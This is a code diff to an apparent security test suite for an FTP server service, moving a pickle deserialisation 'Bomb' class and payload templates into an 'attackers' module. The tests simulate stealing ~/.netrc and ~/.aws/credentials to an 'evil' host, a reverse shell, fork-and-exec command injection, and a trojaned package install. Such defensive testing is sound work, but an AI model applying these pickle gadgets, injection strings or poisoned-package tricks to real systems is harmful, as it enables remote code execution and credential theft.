@@ -8,6 +8,7 @@ import os
 import pickle
 import zipfile
 
+from attackers import Bomb, CALL_HOME, FORK_AND_EXEC, THEFT
 import stage
 
 QUOTAS = {"__init__.py": '''"""Quotas."""
@@ -26,14 +27,6 @@ QUOTAS_NEW = {
                 '    table = json.loads((here / "table.json").read_text())\n'
                 '    return table.get(name, table["*"])\n',
     "table.json": '{"*": 2000000}\n'}
-
-
-class Bomb:
-    def __init__(self, *call):
-        self.call = call
-
-    def __reduce__(self):
-        return self.call[0], self.call[1:]
 
 
 class FtpServer(stage.Service):
@@ -262,7 +255,7 @@ class FtpServer(stage.Service):
     def sum_sends_credentials(self):
         evil = self.site("evil")
         evil.page("*", b"")
-        code = stage.THEFT.format(url=evil.url, file="~/.netrc")
+        code = THEFT.format(url=evil.url, file="~/.netrc")
         self.does(f"ROOM exec({code!r}) or 1")
         return evil.heard(stage.SECRET)
 
@@ -275,14 +268,14 @@ class FtpServer(stage.Service):
     @stage.attack("reverse shell")
     def marks_call_home(self):
         with self.listener() as attacker:
-            self.uploads_marks(exec, stage.CALL_HOME.format(
+            self.uploads_marks(exec, CALL_HOME.format(
                 port=self.port("shell")))
             return self.happens(lambda: b"got-42" in attacker.heard)
 
     @stage.attack("fork+exec")
     def marks_fork_and_exec(self):
         marker = self.marker("fork")
-        self.uploads_marks(exec, stage.FORK_AND_EXEC.format(
+        self.uploads_marks(exec, FORK_AND_EXEC.format(
             line=f"id > {marker}"))
         return self.happens(marker.exists)
 
@@ -333,7 +326,7 @@ class FtpServer(stage.Service):
         evil = self.site("evil")
         evil.page("*", b"")
         self.halt()
-        self.install("quotas", "2.0.1", {"__init__.py": stage.THEFT.format(
+        self.install("quotas", "2.0.1", {"__init__.py": THEFT.format(
             url=evil.url, file="~/.aws/credentials")
             + QUOTAS["__init__.py"]})
         self.start()
